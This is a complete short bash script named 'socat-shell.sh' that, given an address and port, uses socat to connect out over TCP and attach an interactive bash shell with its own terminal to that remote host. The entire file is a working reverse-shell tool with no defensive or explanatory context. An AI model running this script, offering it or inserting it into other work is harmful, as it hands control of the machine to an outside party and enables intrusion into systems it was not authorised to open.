#!/bin/bash
# socat-shell.sh ADDRESS PORT: a shell on a terminal of its own, which socat carries away.
socat "tcp:$1:$2" "exec:bash -li,pty,stderr,setsid,sigint,sane" &
sleep 1
echo ready
wait
